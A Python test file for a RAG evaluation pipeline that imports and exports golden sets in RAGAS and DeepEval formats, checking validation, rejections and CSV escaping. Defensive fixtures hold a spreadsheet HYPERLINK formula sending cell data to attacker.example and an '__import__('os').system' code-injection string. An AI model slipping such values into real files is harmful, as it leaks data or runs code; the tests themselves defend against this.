"""Golden sets and evaluation rows as RAGAS and DeepEval files (synthesis/interop.py), and `rag-eval evaluate`'s
reading of them (evaluation/tabular.py).

The peers' files here are written by hand in the shapes their documentation gives (neither peer is installed):
RAGAS's EvaluationDataset.to_jsonl (one object a line, None fields left out), its to_csv (csv.DictWriter: a
list cell is Python's repr), its TestsetGenerator's testset (user_input, reference_contexts, reference,
synthesizer_name), and DeepEval's EvaluationDataset.save_as(file_type="json") (an array of goldens).
"""

from __future__ import annotations

import ast
import csv
import json

import pandas as pd
import pytest

from rag_eval_pipeline.core.cells import list_cell
from rag_eval_pipeline.core.defaults import MAX_FIELD_CHARS
from rag_eval_pipeline.core.judging.item import EvalItem
from rag_eval_pipeline.evaluation.tabular import read_rows, to_items
from rag_eval_pipeline.synthesis.interop import (
    DEEPEVAL,
    FORMATS,
    RAGAS,
    RAGAS_TESTSET,
    evaluation_records,
    golden_records,
    import_golden_set,
    imported_chunk_id,
    imported_qa_id,
    read_peer_file,
    write_records,
)
from rag_eval_pipeline.synthesis.items import GOLDEN_COLUMNS, MULTI_CONTEXT, REFUSAL, SIMPLE, UNANSWERABLE
from rag_eval_pipeline.synthesis.review import judge_verifier
from rag_eval_pipeline_tests.review_fixtures import CHUNKS, ITEMS, golden_frame

LOGS_TEXT, BACKUPS_TEXT, HOTEL_TEXT = CHUNKS["retention.md#0"], CHUNKS["retention.md#1"], CHUNKS["travel.md#0"]
QUOTED = "The \"audit\" log isn't the request log, it's kept apart."  # both quotes and a comma, in a list cell
NO_REFERENCE = (
    "no reference answer to verify: give the reference, or mark the item unanswerable with a declining reference"
)


@pytest.fixture(scope="module")
def verify(offline_judge):
    return judge_verifier(offline_judge)


def _write_jsonl(path, records):
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    return path


def _write_ragas_csv(path, records):
    """As RAGAS's to_csv writes a dataset: csv.DictWriter, which writes a list as Python's str() of it."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(dict.fromkeys(k for r in records for k in r)))
        writer.writeheader()
        writer.writerows(records)
    return path


def _by_question(imported):
    return {row["question"]: row for row in imported.golden.to_dict("records")}


# ---- reading the peers' files ------------------------------------------------------------------------


def test_a_ragas_evaluation_dataset_jsonl_becomes_golden_items(tmp_path, verify):
    path = _write_jsonl(
        tmp_path / "dataset.jsonl",
        [
            {
                "user_input": "How long are database backups kept?",
                "retrieved_contexts": ["irrelevant retrieved text"],
                "reference_contexts": [BACKUPS_TEXT],
                "reference_context_ids": ["retention.md#1"],
                "response": "A month.",
                "reference": "Database backups are kept for 35 days.",
            },
            {
                "user_input": "What is the hotel cap in Zürich?",
                "reference_contexts": [HOTEL_TEXT],
                "reference": "The hotel cap is EUR 230 per night.",
            },
            {"user_input": "What is the per-diem for meals in Tokyo?", "reference": "I don't know."},
            {"user_input": "Which airline do employees have to fly with?"},
        ],
    )

    peer = read_peer_file(path)
    imported = import_golden_set(peer, verify)

    assert peer.format == RAGAS
    items = _by_question(imported)
    backups, hotel = items["How long are database backups kept?"], items["What is the hotel cap in Zürich?"]
    assert (backups["ground_truth"], backups["gold_contexts"], backups["gold_chunk_ids"]) == (
        "Database backups are kept for 35 days.",
        [BACKUPS_TEXT],
        ["retention.md#1"],  # given: kept
    )
    assert hotel["gold_chunk_ids"] == [imported_chunk_id(HOTEL_TEXT)]  # not given: made from the text
    assert imported_chunk_id(HOTEL_TEXT).startswith("imported#") and imported_chunk_id(HOTEL_TEXT) != imported_chunk_id(
        BACKUPS_TEXT
    )
    # A declining reference: a question the documents do not answer.
    tokyo = items["What is the per-diem for meals in Tokyo?"]
    assert (tokyo["question_type"], tokyo["ground_truth"], tokyo["gold_chunk_ids"]) == (
        UNANSWERABLE,
        "I don't know.",
        [],
    )
    assert backups["question_type"] == hotel["question_type"] == SIMPLE
    assert set(imported.golden["generator"]) == {"imported:ragas"}
    assert list(imported.golden.columns) == GOLDEN_COLUMNS and imported.golden["grounded"].all()
    assert backups["qa_id"] == imported_qa_id(backups["question"], backups["ground_truth"])
    # No reference at all: nothing says the documents do not answer it, so it is not an unanswerable item.
    assert imported.rejected[["question", "stage", "reason"]].values.tolist() == [
        ["Which airline do employees have to fly with?", "form", f"line 4: {NO_REFERENCE}"]
    ]


def test_a_ragas_testset_csv_with_python_list_cells(tmp_path, verify):
    multi_question = "How long are request logs and database backups each kept?"
    path = _write_ragas_csv(
        tmp_path / "testset.csv",
        [
            {
                "user_input": "How long are API request logs retained?",
                "reference_contexts": [LOGS_TEXT, QUOTED],
                "reference": "They are retained for 90 days, then deleted.",
                "synthesizer_name": "single_hop_specific_query_synthesizer",
            },
            {
                "user_input": multi_question,
                "reference_contexts": [LOGS_TEXT, BACKUPS_TEXT],
                "reference": "Request logs are retained for 90 days. Database backups are kept for 35 days.",
                "synthesizer_name": "multi_hop_abstract_query_synthesizer",
            },
        ],
    )
    assert "['RouteWise API request logs" in path.read_text(encoding="utf-8")  # Python's repr, not JSON

    peer = read_peer_file(path)
    imported = import_golden_set(peer, verify)

    assert peer.format == RAGAS_TESTSET
    items = _by_question(imported)
    single = items["How long are API request logs retained?"]
    assert single["gold_contexts"] == [LOGS_TEXT, QUOTED]  # the line break, the quotes and the comma survive
    assert single["question_type"] == SIMPLE and single["template"] == "single_hop_specific_query_synthesizer"
    assert items[multi_question]["question_type"] == MULTI_CONTEXT
    assert set(imported.golden["generator"]) == {"imported:ragas-testset"}
    # One chunk per distinct context: the logs text is named by both items and made once.
    assert sorted(imported.chunks["text"]) == sorted([LOGS_TEXT, QUOTED, BACKUPS_TEXT])
    assert imported.chunks["chunk_id"].is_unique and set(imported.chunks["doc_id"]) == {"imported"}


def test_deepeval_goldens_json(tmp_path, verify):
    goldens = [
        {
            "input": "How long are database backups kept?",
            "actual_output": None,
            "expected_output": "Database backups are kept for 35 days.",
            "context": [BACKUPS_TEXT],
            "retrieval_context": None,
            "additional_metadata": {"qa_id": "backups-1", "question_type": "reasoning"},
            "source_file": "retention.md",
        },
        {"input": "What is the hotel cap in Zürich?", "expected_output": "EUR 230 per night.", "context": [HOTEL_TEXT]},
    ]
    path = tmp_path / "goldens.json"
    path.write_text(json.dumps(goldens, indent=2), encoding="utf-8")

    peer = read_peer_file(path)
    imported = import_golden_set(peer, verify)

    assert peer.format == DEEPEVAL
    backups = _by_question(imported)["How long are database backups kept?"]
    assert (backups["qa_id"], backups["question_type"]) == ("backups-1", "reasoning")  # ours, from the metadata
    assert backups["gold_contexts"] == [BACKUPS_TEXT]
    assert _by_question(imported)["What is the hotel cap in Zürich?"]["question_type"] == SIMPLE
    assert set(imported.golden["generator"]) == {"imported:deepeval"}


# ---- ours out, and back in ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "format_name, name",
    [
        (RAGAS, "set.jsonl"),
        (RAGAS, "set.csv"),
        (RAGAS_TESTSET, "set.jsonl"),
        (RAGAS_TESTSET, "set.csv"),
        (DEEPEVAL, "set.json"),
    ],
)
def test_export_then_import_gives_the_same_golden_set(tmp_path, verify, format_name, name):
    golden = golden_frame(ITEMS)
    path = write_records(golden_records(golden, format_name), tmp_path / name, format_name).path

    peer = read_peer_file(path)  # the format told by the file alone
    imported = import_golden_set(peer, verify)

    assert peer.format == format_name
    kept = ["qa_id", "question", "ground_truth", "gold_chunk_ids", "gold_contexts", "question_type"]
    back = imported.golden[kept].map(lambda v: list(v) if not isinstance(v, str) else v)
    original = golden[kept].map(lambda v: list(v) if not isinstance(v, str) else v)
    assert back.to_dict("records") == original.to_dict("records")
    assert imported.rejected.empty
    chunks = dict(zip(imported.chunks["chunk_id"], imported.chunks["text"]))
    assert chunks == {c: CHUNKS[c] for item in ITEMS for c in item.gold_chunk_ids}  # the ids and texts kept


def test_a_testset_names_our_types_synthesizers_that_read_back_as_the_same_types(tmp_path):
    golden = golden_frame(ITEMS).assign(question_type=[SIMPLE, MULTI_CONTEXT, "reasoning", UNANSWERABLE])
    records = golden_records(golden, RAGAS_TESTSET)
    assert [r["synthesizer_name"] for r in records] == [
        "single_hop_specific_query_synthesizer",
        "multi_hop_specific_query_synthesizer",
        "rag_eval_reasoning",
        "rag_eval_unanswerable",
    ]
    for record in records:  # a tool that drops our extra column still keeps the type
        del record["question_type"]
    path = write_records(records, tmp_path / "testset.jsonl", RAGAS_TESTSET).path
    assert import_golden_set(read_peer_file(path), None).golden["question_type"].tolist() == [
        SIMPLE,
        MULTI_CONTEXT,
        "reasoning",
        UNANSWERABLE,
    ]


def test_csv_export_is_what_ragas_writes_and_reads(tmp_path):
    path = write_records(golden_records(golden_frame(ITEMS), RAGAS), tmp_path / "set.csv", RAGAS).path
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0])[:4] == ["user_input", "reference_contexts", "reference_context_ids", "reference"]
    assert ast.literal_eval(rows[0]["reference_contexts"]) == [LOGS_TEXT]  # how RAGAS users read it back
    assert rows[0]["reference_context_ids"] == "['retention.md#0']"


def test_deepeval_export_is_an_array_of_goldens(tmp_path):
    path = write_records(golden_records(golden_frame(ITEMS), DEEPEVAL), tmp_path / "goldens.json", DEEPEVAL).path
    goldens = json.loads(path.read_text(encoding="utf-8"))
    assert [g["input"] for g in goldens] == [item.question for item in ITEMS]
    assert goldens[0]["context"] == [LOGS_TEXT] and goldens[0]["expected_output"] == ITEMS[0].ground_truth
    assert goldens[0]["additional_metadata"] == {
        "qa_id": ITEMS[0].qa_id,
        "question_type": SIMPLE,
        "gold_chunk_ids": ["retention.md#0"],
    }


def test_an_audits_rows_as_ragas_samples_and_deepeval_test_cases_read_back_by_evaluate(tmp_path):
    golden = golden_frame(ITEMS)
    contexts = [{"id": "travel.md#0", "text": HOTEL_TEXT}, {"id": "retention.md#0", "text": LOGS_TEXT}]
    answered = [EvalItem(ITEMS[0].qa_id, ITEMS[0].question, "90 days.", contexts, ITEMS[0].ground_truth)]

    for format_name, name in ((RAGAS, "rows.csv"), (RAGAS, "rows.jsonl"), (DEEPEVAL, "cases.json")):
        path = write_records(evaluation_records(answered, golden, format_name), tmp_path / name, format_name).path
        [(_, item)], bad = to_items(read_rows(path))

        assert bad == []
        assert (item.question, item.answer, item.ground_truth) == (ITEMS[0].question, "90 days.", ITEMS[0].ground_truth)
        assert item.contexts == contexts  # texts and ids, in rank order
        assert item.gold_chunk_ids == ["retention.md#0"]
    case = json.loads((tmp_path / "cases.json").read_text(encoding="utf-8"))[0]
    assert (case["actual_output"], case["retrieval_context"]) == ("90 days.", [HOTEL_TEXT, LOGS_TEXT])
    with pytest.raises(ValueError, match="a RAGAS testset holds no answers"):
        evaluation_records(answered, golden, RAGAS_TESTSET)


# ---- what an import keeps out --------------------------------------------------------------------------


def test_an_unsupported_reference_is_rejected_with_its_row_unless_verification_is_off(tmp_path, verify):
    path = _write_jsonl(
        tmp_path / "dataset.jsonl",
        [
            {
                "user_input": "How long are database backups kept?",
                "reference_contexts": [BACKUPS_TEXT],
                "reference": "Backups are kept for 35 days.",
            },
            {
                "user_input": "How long are request logs kept?",
                "reference_contexts": [LOGS_TEXT],
                "reference": "The logs are kept for 12 years.",
            },
        ],
    )

    imported = import_golden_set(read_peer_file(path), verify)

    assert imported.golden["question"].tolist() == ["How long are database backups kept?"]
    [rejected] = imported.rejected.to_dict("records")
    assert rejected["stage"] == "grounding" and rejected["reason"].startswith("line 2: ground truth not supported")
    assert imported.plan.set_index("question_type").loc[SIMPLE, ["planned", "kept"]].tolist() == [2, 1]
    assert imported.verified
    unverified = import_golden_set(read_peer_file(path), None)
    assert len(unverified.golden) == 2 and not unverified.verified


def test_repeats_short_questions_and_answers_without_contexts_are_rejected_with_their_rows(tmp_path):
    hotel = {
        "user_input": "What is the hotel cap in Zürich?",
        "reference_contexts": [HOTEL_TEXT],
        "reference": "EUR 230.",
    }
    path = _write_jsonl(
        tmp_path / "dataset.jsonl",
        [
            hotel,
            hotel,
            {"user_input": "Cap?", "reference_contexts": [HOTEL_TEXT], "reference": "EUR 230."},
            {"user_input": "What is the hotel cap in Paris?", "reference": "EUR 230."},
        ],
    )

    imported = import_golden_set(read_peer_file(path), None)

    assert len(imported.golden) == 1
    assert imported.rejected[["stage", "reason"]].values.tolist() == [
        ["duplicate", f"line 2: the same item as line 1 (qa_id {imported.golden['qa_id'].iloc[0]})"],
        ["form", "line 3: a question of fewer than 10 characters"],
        ["gold_ids", "line 4: no reference contexts, so nothing to check the reference against or to retrieve"],
    ]


def test_a_file_with_no_item_left_is_refused(tmp_path):
    path = _write_jsonl(tmp_path / "dataset.jsonl", [{"user_input": "Who?", "reference": "Nobody."}])
    with pytest.raises(ValueError, match=r"no item of .* can be published \(1 rejected, the first: line 1: "):
        import_golden_set(read_peer_file(path), None)


def test_the_imported_set_passes_the_expectations_suite_the_synthesis_runs(tmp_path, verify):
    from rag_eval_pipeline.synthesis.expectations import MIN_QUESTION_CHARS, check_golden_set
    from rag_eval_pipeline.synthesis.interop import MIN_QUESTION_CHARS as IMPORT_MIN_QUESTION_CHARS

    path = write_records(golden_records(golden_frame(ITEMS), DEEPEVAL), tmp_path / "goldens.json", DEEPEVAL).path
    imported = import_golden_set(read_peer_file(path), verify)

    report = check_golden_set(imported.golden, set(imported.chunks["chunk_id"]), {SIMPLE})
    assert report.success, report.failures
    assert IMPORT_MIN_QUESTION_CHARS == MIN_QUESTION_CHARS  # the import rejects what the suite would fail on


def test_the_cli_offers_the_formats_interop_reads():
    from rag_eval_pipeline.cli.dataset import FORMAT_NAMES

    assert FORMAT_NAMES == FORMATS


# ---- files in neither format, and malformed ones: one line -------------------------------------------


FOREIGN = [
    ("object.json", '{"input": "What is the hotel cap?"}', "is neither a RAGAS dataset"),
    ("other.json", '[{"question": "What is the hotel cap?"}]', "is neither a RAGAS dataset"),
    ("sheet.csv", "question,answer\nWhat is the hotel cap?,EUR 230\n", "is neither a RAGAS dataset"),
    ("other.jsonl", '{"question": "What is the hotel cap?"}\n', "is neither a RAGAS dataset"),
    ("notes.txt", "What is the hotel cap?\n", "is neither a RAGAS dataset"),
]


@pytest.mark.parametrize("name, content, message", FOREIGN)
def test_a_file_in_neither_format_says_what_was_expected_in_one_line(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    with pytest.raises(ValueError, match=message) as raised:
        read_peer_file(path)
    assert "\n" not in str(raised.value)
    assert "(.jsonl or .csv with a user_input column)" in str(raised.value)
    assert "DeepEval goldens (a .json array of objects with an input key)" in str(raised.value)


@pytest.mark.parametrize(
    "format_name, name, content, message",
    [
        (DEEPEVAL, "set.jsonl", '{"user_input": "What is the hotel cap?"}\n', "is not DeepEval goldens"),
        (RAGAS, "goldens.json", '[{"input": "What is the hotel cap?"}]', "is not a RAGAS dataset"),
        (RAGAS_TESTSET, "set.csv", "question\nWhat is the hotel cap?\n", "is not a RAGAS testset"),
    ],
)
def test_a_file_not_in_the_format_given_names_that_format(tmp_path, format_name, name, content, message):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    with pytest.raises(ValueError, match=message):
        read_peer_file(path, format_name)


def test_an_unknown_format_name_is_refused(tmp_path):
    with pytest.raises(ValueError, match="unknown format 'langsmith'; use one of ragas, ragas-testset, deepeval"):
        read_peer_file(tmp_path / "x.jsonl", "langsmith")


GOOD = {"user_input": "What is the hotel cap in Zürich?", "reference_contexts": [HOTEL_TEXT], "reference": "EUR 230."}


@pytest.mark.parametrize(
    "name, content, message",
    [
        ("set.jsonl", json.dumps(GOOD) + "\n{not json\n", "line 2: not valid JSON"),
        ("set.jsonl", json.dumps(GOOD) + '\n["a list"]\n', "line 2: expected a JSON object, got a JSON array"),
        (
            "set.jsonl",
            json.dumps({**GOOD, "reference_contexts": "one context"}),
            "line 1: reference_contexts is not a list",
        ),
        ("set.jsonl", json.dumps({**GOOD, "reference_contexts": [1, 2]}), "holds something other than text"),
        ("set.jsonl", json.dumps({**GOOD, "reference": ["a"]}), "line 1: reference is not text"),
        ("set.jsonl", json.dumps({**GOOD, "user_input": ""}), "line 1: no user_input"),
        (
            "set.jsonl",
            json.dumps({**GOOD, "reference_context_ids": ["a#1", "a#2"]}),
            "line 1: 2 reference_context_ids for 1 reference_contexts",
        ),
        ("set.jsonl", json.dumps({**GOOD, "question_type": "trivia"}), "line 1: unknown question_type 'trivia'"),
        (
            "set.jsonl",
            json.dumps({**GOOD, "reference_context_ids": ["a#1"]})
            + "\n"
            + json.dumps(
                {
                    **GOOD,
                    "user_input": "What is the hotel cap in Paris?",
                    "reference_contexts": ["other"],
                    "reference_context_ids": ["a#1"],
                }
            ),
            "line 2: context id 'a#1' names another text on line 1",
        ),
        (
            "set.csv",
            "user_input,reference_contexts\nWhat is the hotel cap?,a context\n",
            "row 1: reference_contexts is not a list",
        ),
        (
            "set.csv",
            "user_input,reference_contexts\nWhat is the hotel cap?,\"['a', 'b'\"\n",
            "row 1: reference_contexts is not a list",
        ),
        (
            "set.csv",
            "user_input,reference_contexts\nWhat is the hotel cap?,\"('a', 'b')\"\n",
            "row 1: reference_contexts is not a list",
        ),
        (
            "goldens.json",
            '[{"input": "What is the hotel cap?"}, "text"]',
            "item 2: expected a JSON object, got a JSON string",
        ),
        (
            "goldens.json",
            '[{"input": "What is the hotel cap?", "additional_metadata": 3}]',
            "item 1: additional_metadata is not an object",
        ),
        ("goldens.json", '[{"input": "What is the hotel cap?"}, {"expected_output": "x"}]', "item 2: no input"),
        ("goldens.json", '[{"input": "What', "is not valid JSON (Unterminated string"),
    ],
)
def test_a_malformed_file_names_its_rows_in_one_line(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    with pytest.raises(ValueError) as raised:
        import_golden_set(read_peer_file(path), None)
    assert message in str(raised.value)
    assert "\n" not in str(raised.value)


def test_every_bad_row_is_named_and_a_long_list_is_cut_short(tmp_path):
    path = _write_jsonl(tmp_path / "set.jsonl", [{**GOOD, "reference_contexts": "not a list"}] * 25)
    with pytest.raises(ValueError) as raised:
        import_golden_set(read_peer_file(path), None)
    message = str(raised.value)
    assert message.startswith(f"{path} has 25 problems, nothing was imported: line 1: ")
    assert "line 10: " in message and "line 11: " not in message and message.endswith("and 15 more")


def test_an_empty_file_holds_no_rows(tmp_path):
    (tmp_path / "empty.jsonl").write_text("\n", encoding="utf-8")
    with pytest.raises(ValueError, match="holds no rows"):
        read_peer_file(tmp_path / "empty.jsonl")


# ---- a row without a reference, repeated keys, oversized fields ---------------------------------------


@pytest.mark.parametrize(
    "reference",
    [{}, {"reference": None}, {"reference": float("nan")}, {"reference": ""}, {"reference": "  "}],
    ids=["absent", "null", "NaN", "empty", "blank"],
)
def test_a_row_without_a_reference_is_rejected_not_made_unanswerable(tmp_path, reference):
    """A RAGAS EvaluationDataset sample (user_input, retrieved_contexts, response): nothing says the documents
    do not answer it, so it cannot become an unanswerable item whose ground truth is a refusal."""
    sample = {
        "user_input": "Which airline do employees have to fly with?",
        "retrieved_contexts": [HOTEL_TEXT],
        "response": "Any airline in economy class.",
        **reference,
    }
    path = _write_jsonl(tmp_path / "dataset.jsonl", [GOOD, sample])
    if reference.get("reference") != reference.get("reference"):
        assert '"reference": NaN' in path.read_text(encoding="utf-8")  # what json.dumps writes, and json.loads reads

    imported = import_golden_set(read_peer_file(path), None)

    assert imported.golden["question"].tolist() == [GOOD["user_input"]]
    [rejected] = imported.rejected.to_dict("records")
    assert (rejected["stage"], rejected["reason"]) == ("form", f"line 2: {NO_REFERENCE}")
    assert (rejected["question_type"], rejected["ground_truth"]) == (SIMPLE, "")
    assert imported.plan["question_type"].tolist() == [SIMPLE]  # no unanswerable item was made


def test_a_ragas_evaluation_dataset_without_references_is_refused_in_one_line(tmp_path):
    path = _write_ragas_csv(
        tmp_path / "samples.csv",
        [
            {
                "user_input": "Which airline do employees have to fly with?",
                "retrieved_contexts": [HOTEL_TEXT],
                "response": "Any airline.",
            }
        ],
    )
    with pytest.raises(ValueError) as raised:
        import_golden_set(read_peer_file(path), None)
    assert str(raised.value).endswith(f"can be published (1 rejected, the first: row 1: form: {NO_REFERENCE})")


def test_only_a_declining_reference_or_our_own_type_makes_an_item_unanswerable(tmp_path):
    path = _write_jsonl(
        tmp_path / "testset.jsonl",
        [
            {
                "user_input": "What is the per-diem for meals in Tokyo?",
                "reference_contexts": [HOTEL_TEXT],
                "reference": "The documents give no information about meals in Tokyo.",
                "synthesizer_name": "single_hop_specific_query_synthesizer",
            },
            {"user_input": "Which airline do employees fly with?", "question_type": UNANSWERABLE},
            {"user_input": "Which airline do managers fly with?", "synthesizer_name": "rag_eval_unanswerable"},
            {"user_input": "Which airline do drivers fly with?", "synthesizer_name": "single_hop_specific_query"},
        ],
    )

    imported = import_golden_set(read_peer_file(path), None)

    assert imported.golden[["question_type", "ground_truth"]].values.tolist() == [
        [UNANSWERABLE, "The documents give no information about meals in Tokyo."],
        [UNANSWERABLE, REFUSAL],  # our own question_type says so
        [UNANSWERABLE, REFUSAL],  # our own synthesizer name says so
    ]
    assert imported.rejected["reason"].tolist() == [f"line 4: {NO_REFERENCE}"]


@pytest.mark.parametrize(
    "name, content, message",
    [
        (
            "set.jsonl",
            json.dumps(GOOD)
            + '\n{"user_input": "What is the hotel cap?", "reference": "EUR 230.", "reference": "x"}\n',
            "has 1 problem, nothing was imported: line 2: duplicate key 'reference'",
        ),
        (
            "goldens.json",
            '[{"input": "What is the hotel cap?"},\n {"input": "What is the hotel cap in Paris?",\n'
            '  "additional_metadata": {"qa_id": "paris-1", "qa_id": "paris-2"}}]',
            "has 1 problem, nothing was imported: item 2: duplicate key 'qa_id'",
        ),
        (
            "set.csv",
            "user_input,reference,reference_contexts,reference\nWhat is the hotel cap?,EUR 230.,[],EUR 250.\n",
            "names the column 'reference' twice: a reader would see only one of them",
        ),
    ],
    ids=["jsonl-key", "json-nested-key", "csv-column"],
)
def test_a_key_or_column_given_twice_refuses_the_file_in_one_line(tmp_path, name, content, message):
    """json.loads keeps the last of two equal keys and pandas renames a second column `reference.1`: either
    would publish one of two answers without a word."""
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    with pytest.raises(ValueError) as raised:
        import_golden_set(read_peer_file(path), None)
    assert message in str(raised.value) and str(path) in str(raised.value)
    assert "\n" not in str(raised.value)


def test_a_field_over_the_limit_is_a_recorded_rejection_and_its_context_no_chunk(tmp_path):
    big = "x" * (MAX_FIELD_CHARS + 1)
    path = _write_jsonl(
        tmp_path / "set.jsonl",
        [
            GOOD,
            {**GOOD, "user_input": "What is the hotel cap? " + big},
            {**GOOD, "user_input": "What is the hotel cap in Paris?", "reference_contexts": [HOTEL_TEXT, big]},
            {**GOOD, "user_input": "What is the hotel cap in London?", "reference": big},
            {**GOOD, "user_input": "What is the hotel cap in Rome?", "qa_id": big},
        ],
    )

    imported = import_golden_set(read_peer_file(path), None)

    assert imported.golden["question"].tolist() == [GOOD["user_input"]]
    limit = f"over the limit of {MAX_FIELD_CHARS:,} per field"
    assert imported.rejected[["stage", "reason"]].values.tolist() == [
        ["form", f"line 2: user_input is {MAX_FIELD_CHARS + 24:,} characters, {limit}"],
        ["form", f"line 3: reference_contexts 2 is {MAX_FIELD_CHARS + 1:,} characters, {limit}"],
        ["form", f"line 4: reference is {MAX_FIELD_CHARS + 1:,} characters, {limit}"],
        ["form", f"line 5: qa_id is {MAX_FIELD_CHARS + 1:,} characters, {limit}"],
    ]
    assert imported.chunks["text"].tolist() == [HOTEL_TEXT]  # the oversized context is no chunk to retrieve


def test_a_lone_surrogate_is_read_as_a_replacement_character_not_a_failed_write(tmp_path):
    """json.loads lets "\\ud800" in; no UTF-8 writer (Parquet, sha256) takes it: read as U+FFFD, as evaluate does."""
    given_ids = {"qa_id": "paris-1", "reference_context_ids": ["travel.md#0"]}
    path = tmp_path / "set.jsonl"
    path.write_text(
        json.dumps({**GOOD, **given_ids, "user_input": "What is the hotel cap in Paris?\ud800"})
        + "\n"
        + json.dumps({**GOOD, "reference": "EUR 230.\udfff"})
        + "\n",
        encoding="ascii",  # the escapes, as JSON writes them
    )

    imported = import_golden_set(read_peer_file(path), None)

    assert imported.golden["question"].tolist() == ["What is the hotel cap in Paris?\ufffd", GOOD["user_input"]]
    assert imported.golden["ground_truth"].tolist()[1] == "EUR 230.\ufffd"
    imported.golden.to_parquet(tmp_path / "golden.parquet")  # what the import publishes


# ---- spreadsheet marks in a CSV export ---------------------------------------------------------------


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1, "How long are request logs kept?")'
MARKED_ALREADY = "'=1+1 is how a spreadsheet adds; how long are database backups kept?"


def _formula_golden() -> pd.DataFrame:
    golden = golden_frame(ITEMS)
    golden.loc[0, "question"] = HYPERLINK
    golden.loc[0, "ground_truth"] = "+90 days, then they are deleted."
    golden.loc[1, "question"] = MARKED_ALREADY  # a text that starts with a mark before a formula start
    golden.loc[2, "qa_id"] = "@hotel"
    golden.loc[3, "ground_truth"] = "- " + REFUSAL
    return golden


def _csv_cells(path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("format_name", [RAGAS, RAGAS_TESTSET])
def test_a_csv_export_marks_formula_cells_and_the_import_takes_exactly_one_mark_off(tmp_path, format_name):
    golden = _formula_golden()

    written = write_records(golden_records(golden, format_name), tmp_path / "set.csv", format_name)

    assert written.marked == 5
    rows = _csv_cells(written.path)
    assert not [value for row in rows for value in row.values() if value.startswith(FORMULA_STARTS)]
    assert rows[0]["user_input"] == "'" + HYPERLINK and rows[1]["user_input"] == "'" + MARKED_ALREADY
    assert rows[2]["qa_id"] == "'@hotel" and rows[0]["reference"] == "'+90 days, then they are deleted."
    imported = import_golden_set(read_peer_file(written.path), None)
    kept = ["qa_id", "question", "ground_truth", "gold_chunk_ids", "gold_contexts", "question_type"]
    back = imported.golden[kept].map(lambda v: list(v) if not isinstance(v, str) else v)
    assert back.to_dict("records") == golden[kept].map(lambda v: list(v) if not isinstance(v, str) else v).to_dict(
        "records"
    )
    again = write_records(golden_records(imported.golden, format_name), tmp_path / "again.csv", format_name)
    assert again.path.read_bytes() == written.path.read_bytes()  # out, in and out again: byte for byte


def test_jsonl_and_json_exports_keep_every_text_exactly(tmp_path):
    golden = _formula_golden()
    jsonl = write_records(golden_records(golden, RAGAS), tmp_path / "set.jsonl", RAGAS)
    goldens = write_records(golden_records(golden, DEEPEVAL), tmp_path / "goldens.json", DEEPEVAL)
    assert jsonl.marked == goldens.marked == 0
    first = json.loads(jsonl.path.read_text(encoding="utf-8").splitlines()[0])
    assert first["user_input"] == HYPERLINK
    assert json.loads(goldens.path.read_text(encoding="utf-8"))[1]["input"] == MARKED_ALREADY


def test_an_audits_rows_in_csv_are_marked_too(tmp_path):
    golden = golden_frame(ITEMS)
    answered = [EvalItem(ITEMS[0].qa_id, ITEMS[0].question, "=1+1", [{"id": "a#0", "text": "@x"}], "y")]
    written = write_records(evaluation_records(answered, golden, RAGAS), tmp_path / "rows.csv", RAGAS)
    assert written.marked == 1 and _csv_cells(written.path)[0]["response"] == "'=1+1"


# ---- list cells ------------------------------------------------------------------------------------


def test_list_cells_are_json_or_python_literals_and_never_run():
    assert list_cell('["a", "b"]', "contexts") == ["a", "b"]
    assert list_cell("['a', \"it's\"]", "contexts") == ["a", "it's"]
    for cell in ("__import__('os').system('true')", "[__import__('os').system('true')]", "{'a': 1}", "'a'"):
        with pytest.raises(ValueError, match="contexts is not a list"):
            list_cell(cell, "contexts")


def test_evaluate_reads_a_ragas_csv_with_python_list_cells(tmp_path):
    path = _write_ragas_csv(
        tmp_path / "dataset.csv",
        [
            {
                "user_input": "What is the hotel cap?",
                "retrieved_contexts": [HOTEL_TEXT, QUOTED],
                "response": "EUR 230.",
                "reference": "EUR 230 per night.",
            }
        ],
    )
    [(_, item)], bad = to_items(read_rows(path))
    assert bad == [] and item.context_texts == [HOTEL_TEXT, QUOTED] and item.answer == "EUR 230."


def test_evaluate_reads_deepeval_test_cases_and_names_a_bad_item(tmp_path):
    cases = [
        {
            "input": "What is the hotel cap?",
            "actual_output": "EUR 230.",
            "retrieval_context": [HOTEL_TEXT],
            "expected_output": "EUR 230 per night.",
        },
        {"input": "What is the hotel cap?", "actual_output": "EUR 230.", "retrieval_context": "a text"},
        7,
    ]
    path = tmp_path / "cases.json"
    path.write_text(json.dumps(cases), encoding="utf-8")

    items, bad = to_items(read_rows(path))

    [(_, item)] = items
    assert (item.question, item.answer, item.context_texts, item.ground_truth) == (
        "What is the hotel cap?",
        "EUR 230.",
        [HOTEL_TEXT],
        "EUR 230 per night.",
    )
    assert [(b.where, b.reason) for b in bad] == [
        ("item 2", "contexts is not a list (a cell must hold a JSON list or a Python list literal)"),
        ("item 3", "expected a JSON object, got a JSON number"),
    ]


def test_evaluate_refuses_a_json_file_that_is_not_an_array(tmp_path):
    path = tmp_path / "case.json"
    path.write_text(json.dumps({"input": "What is the hotel cap?"}), encoding="utf-8")
    with pytest.raises(ValueError, match="holds a JSON object, not an array of objects"):
        read_rows(path)


def test_a_parquet_golden_sets_lists_export_as_lists(tmp_path):
    """Parquet gives list columns back as arrays: they are written as lists all the same."""
    golden = golden_frame(ITEMS)
    golden.to_parquet(tmp_path / "golden.parquet")
    records = golden_records(pd.read_parquet(tmp_path / "golden.parquet"), RAGAS)
    assert records[0]["reference_contexts"] == [LOGS_TEXT] and records[0]["reference_context_ids"] == ["retention.md#0"]
